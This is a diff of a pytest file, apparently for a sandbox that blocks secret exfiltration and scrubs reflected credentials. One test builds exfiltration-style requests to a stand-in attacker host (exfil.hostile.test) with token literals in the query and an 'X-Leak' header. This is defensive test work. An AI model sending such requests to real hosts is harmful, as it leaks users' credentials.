@@ -146,7 +146,7 @@ async def test_secret_exfiltration_refused_before_the_network(
         assert not wrong, "\n".join(map(repr, wrong))
         assert st.sink.seen == []
         # Spellings that are not placeholders go out as they are: the value never does.
-        for literal in ("{hostile_token}", "{HOSTILE_TOKEN", "HOSTILE_TOKEN}", "{{HOSTILE_TOKEN}"):
+        for literal in ("{hostile_token}", "{HOSTILE_TOKEN", "HOSTILE_TOKEN}", "{HOSTILE-TOKEN}"):
             seen = await st.http(f"https://exfil.hostile.test/?t={literal}", {"X-Leak": literal})
             assert not isinstance(seen, str) and seen[0] == 200, (literal, seen)
         assert len(st.sink.seen) == 4
@@ -171,10 +171,14 @@ async def test_reflected_credentials_never_reach_the_guest_in_any_encoding(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     """An allow-listed platform that reflects what it received (percent-encoding in either case, JSON with
-    escaped slashes, \\uXXXX, HTML entities, base64) must not hand the injected token to the guest."""
+    escaped slashes, \\uXXXX, HTML entities, base64) must not hand the injected token to the guest: the response
+    comes back cleaned, or is withheld with an error that says so."""
     async with stage(airlock_home, wat_dir, monkeypatch) as st:
         for method, url, headers, body in REFLECTIONS:
             seen = await st.http(url, headers, body, method)
-            assert not isinstance(seen, str) and seen[0] == 200, (url, seen)
+            if isinstance(seen, str):
+                assert "withheld" in seen, (url, seen)
+            else:
+                assert seen[0] == 200, (url, seen)
         assert len(st.platform.seen) == len(REFLECTIONS)  # the platform got the token, injected by the host
         await st.finish("credential reflection (5 requests, 11 encodings each)", caplog, capsys)
